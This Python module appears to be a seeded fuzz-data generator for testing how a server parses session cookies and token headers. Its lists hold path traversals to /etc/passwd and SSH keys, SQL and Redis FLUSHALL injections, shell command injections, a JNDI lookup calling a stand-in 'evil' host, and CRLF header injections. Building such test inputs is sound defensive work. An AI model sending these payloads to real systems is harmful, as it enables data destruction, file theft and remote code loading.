"""What clients send that were never given it: a seeded stream of cookies and headers.

Each says how many tokens in it are of the right shape and of our name, for only these may be
looked up.  Everything is bytes, as on the wire.
"""

from __future__ import annotations

import base64
import random
from collections.abc import Callable, Iterator
from typing import NamedTuple
from urllib.parse import quote_from_bytes

LOOKED_UP = 8
"""How many tokens of one request are looked up at most."""

TRAVERSALS = [
    b"../../../../etc/passwd", b"..\\..\\..\\windows\\win.ini", b"/etc/passwd", b"....//....//x",
    b"..%2f..%2f..%2fevil", b"%2e%2e/%2e%2e/evil", b"..%c0%af..%c0%afevil", b"..;/..;/evil",
    b"~root/.ssh/authorized_keys", b"./.", b"..", b"a/b", b"a/b/ab", b"users/ab", b".new", b"CON",
    b"file:///etc/passwd", b"\\\\host\\share", b"/dev/null", b"/proc/self/environ",
]  # fmt: skip
INJECTIONS = [
    b"' OR '1'='1", b"1; DROP TABLE sessions; --", b'" UNION SELECT * FROM users --', b"admin'/*",
    b"*1\r\n$8\r\nFLUSHALL\r\n", b"\r\nFLUSHALL\r\n", b"sid:* EVAL redis.call('flushall') 0",
    b"$(touch evil)", b"`touch evil`", b"| touch evil", b"& touch evil &", b"; touch evil",
    b"{{7*7}}", b"${7*7}", b"<%= 7*7 %>", b"#{7*7}", b"${jndi:ldap://evil/x}", b"%s%s%n%x",
    b"<script>alert(1)</script>", b'{"$gt": ""}', b"(|(uid=*))", b"__proto__", b"None", b"null",
    b"\r\nSet-Cookie: evil=1", b"\nSet-Cookie: evil=1", b"%0d%0aSet-Cookie:%20evil=1",
    "嘊嘍Set-Cookie: evil=1".encode(), b"gASVDAAAAAAAAACMBGV2aWyUhZQu", b"\x80\x04\x95evil.",
]  # fmt: skip
LOOK_ALIKES = "АВЕЅαβоｅＡ𝐀０٠"
"""Letters and digits that are none of ASCII's."""
OTHER_NAMES = [
    b"Session", b"SESSION", b"session2", b"xsession", b"session%20", b"__Host-session",
    b"sess\xd1\x96on", b"session[]",
]  # fmt: skip


class Hostile(NamedTuple):
    """What one request brings along."""

    cookie: bytes
    tokens: tuple[str, ...] = ()
    """What is shaped like a token in it, under our name."""

    @property
    def most_reads(self) -> int:
        return min(len(set(self.tokens)), LOOKED_UP)


def token_of(dice: random.Random) -> str:
    """Shaped as a token is, and never issued."""
    return base64.urlsafe_b64encode(dice.randbytes(32)).decode().rstrip("=")


def misshapen(dice: random.Random, token: str) -> bytes:
    """Almost a token."""
    at, text = dice.randrange(43), token.encode()
    return dice.choice(
        [
            text[:-1], text + b"A", text + b"=", text[:at] + b"+" + text[at + 1 :], text * 2,
            text[:-1] + b"B", text[:at] + b"\0" + text[at + 1 :], text[:at] + b" " + text[at + 1 :],
            text[:at] + b"%41" + text[at + 1 :], text[:at] + b"\r\n" + text[at:],
            text[:at] + dice.choice(LOOK_ALIKES).encode() + text[at + 1 :], b"%" + text, text + b"\0",
            text + b"/../" + text, b"." + text, text + b"\xc2\xa0", b"\x0b" + text, text + b"\x85",
        ]
    )  # fmt: skip


def garbage(dice: random.Random, token: str) -> bytes:
    """A value that holds no token."""
    return dice.choice(
        [
            dice.choice(TRAVERSALS),
            dice.choice(INJECTIONS),
            misshapen(dice, token),
            dice.randbytes(dice.randrange(200)).replace(b";", b","),
            quote_from_bytes(dice.choice(TRAVERSALS + INJECTIONS), safe="").encode(),
            bytes([dice.randrange(256)]).replace(b";", b"=") * dice.choice([1, 42, 44, 5000]),
            "".join(dice.choices(LOOK_ALIKES, k=43)).encode(),
        ]
    )


def one_cookie(dice: random.Random, token: str) -> Hostile:
    value = garbage(dice, token)
    quoted = b'"' + value + b'"'
    spelled = dice.choice([b"session=%s", b"a=b; session=%s", b"session = %s ;c", b"session=%s;"])
    return Hostile(spelled % dice.choice([value, quoted]))


def unknown_token(dice: random.Random, token: str) -> Hostile:
    text = token.encode()
    shapes = [
        b"session=%s",
        b'session="%s"',
        b" session = %s ; x",
        b"a=1;session=%s;b=2",
        b";;session=%s",
    ]
    spelled = dice.choice(shapes)
    return Hostile(spelled % text, (token,))


def many_tokens(dice: random.Random, token: str) -> Hostile:
    tokens = [token, *(token_of(dice) for _ in range(dice.randrange(1, 40)))]
    if dice.random() < 0.3:
        tokens = [token] * 50
    return Hostile(b"; ".join(b"session=" + each.encode() for each in tokens), tuple(tokens))


def other_name(dice: random.Random, token: str) -> Hostile:
    return Hostile(dice.choice(OTHER_NAMES) + b"=" + token.encode())


def no_pair(dice: random.Random, token: str) -> Hostile:
    text = token.encode()
    shapes = [b"session", b"=" + text, b"session:" + text, b"session==" + text, b"session=;" + text, b";" * 999,
              b"$Version=1; session2=" + text, b"session=session=" + text, b"\0session=" + text, b"session\0=" + text]  # fmt: skip
    return Hostile(dice.choice(shapes))


def enormous(dice: random.Random, token: str) -> Hostile:
    size = dice.choice([5_000, 70_000, 1_000_000])
    shapes = [b"session=" + b"A" * size, b"session=a; " * (size // 7), b"session=" + b'"' * size,
              b"x=" + b"y" * size, b"session" + b" " * size + b"=", b"=" * size]  # fmt: skip
    return Hostile(dice.choice(shapes))


KINDS: list[Callable[[random.Random, str], Hostile]] = [
    *[one_cookie] * 12, *[unknown_token] * 3, many_tokens, other_name, no_pair,
]  # fmt: skip


def cookies(count: int, seed: int, enormous_every: int = 100) -> Iterator[Hostile]:
    """So many requests; one in some brings something of up to a megabyte."""
    dice = random.Random(seed)
    for number in range(count):
        kind = enormous if number % enormous_every == 0 else dice.choice(KINDS)
        yield kind(dice, token_of(dice))


def header_values(count: int, seed: int) -> Iterator[Hostile]:
    """The same for a header that carries nothing but a token."""
    dice = random.Random(seed)
    for number in range(count):
        token = token_of(dice)
        if number % 100 == 0:
            yield Hostile(b"A" * 1_000_000)
        elif number % 5 == 0:
            yield Hostile(dice.choice([b"%s", b" %s ", b"\t%s"]) % token.encode(), (token,))
        else:
            yield Hostile(garbage(dice, token))
